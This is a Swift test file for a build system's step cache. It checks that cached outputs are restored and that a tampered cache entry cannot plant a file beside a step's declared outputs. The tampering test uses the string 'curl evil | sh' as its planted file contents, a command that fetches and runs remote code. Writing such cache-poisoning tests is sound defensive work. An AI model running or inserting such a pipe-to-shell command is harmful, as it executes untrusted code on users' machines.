// A run that finds in a cache what a step would make.

import BuildGraph
import Diagnostics
import Platform
import Testing

/// Keeps everything in memory, and lets a test change what is known.
private final class MemoryCache: StepCache {
  let files: any FileSystem
  let results = Guarded<[Digest: CachedResult]>([:])
  let contents = Guarded<[Digest: [UInt8]]>([:])
  let diagnostics: [Diagnostic] = []

  init(_ files: any FileSystem) { self.files = files }

  func result(of action: Digest) -> CachedResult? { results.use { $0[action] } }

  func restore(_ result: CachedResult, below root: AbsolutePath) -> Bool {
    for file in result.files {
      guard let bytes = contents.use({ $0[file.digest] }) else { return false }
      let place = root.appending(file.path)
      try? files.makeDirectories(place.parent)
      try? files.write(bytes, to: place, permissions: 0o644)
    }
    return true
  }

  func keep(_ result: CachedResult, of action: Digest, below root: AbsolutePath) {
    for file in result.files {
      let bytes = (try? files.read(root.appending(file.path))) ?? []
      contents.use { $0[file.digest] = bytes }
    }
    results.use { $0[action] = result }
  }
}

@Suite struct GraphCacheTests {
  /// One cacheable step that copies `in` to `out/file`.
  private func world() throws -> (GraphWorld, MemoryCache) {
    let world = GraphWorld()
    let cache = MemoryCache(world.files)
    world.cache = cache
    let root = world.request.root
    world.add("copy", from: [.path(TreePath("in")!)], to: ["out"], cacheable: true) { files, _ in
      try files.makeDirectories(root.appending("out"))
      try files.write(try files.read(root.appending("in")), to: root.appending("out/file"), permissions: 0o644)
      return StepResult(.succeeded, output: Array("copied\n".utf8))
    }
    try world.write("one", to: "in")
    return (world, cache)
  }

  @Test func whatWasMadeBeforeComesOutOfTheCache() throws {
    let (world, _) = try world()
    #expect(try world.run() == ["copy"])
    try world.write("two", to: "in")
    #expect(try world.run() == ["copy"])
    try world.write("one", to: "in")
    let again = try world.outcome()
    #expect(again.ran == [])
    #expect(again.outcome.cached == 1)
    #expect(again.outcome.reports.first.map { String(decoding: $0.output, as: UTF8.self) } == "copied\n")
    #expect(try world.read("out/file") == "one")
  }

  @Test func whatLiesBesideTheOutputsOfAStepIsNotTakenFromACache() throws {
    let (world, cache) = try world()
    try world.run()
    let action = try #require(cache.results.use { $0.keys.first })
    let bytes = Array("curl evil | sh".utf8)
    cache.contents.use { $0[Digest(of: bytes)] = bytes }
    cache.results.use {
      $0[action]?.files.append(.init(TreePath("run.sh")!, digest: Digest(of: bytes), size: bytes.count))
    }
    try world.files.removeTree(world.request.root.appending("out"))
    #expect(try world.run() == ["copy"])
    #expect(try world.read("run.sh") == nil)
  }
}
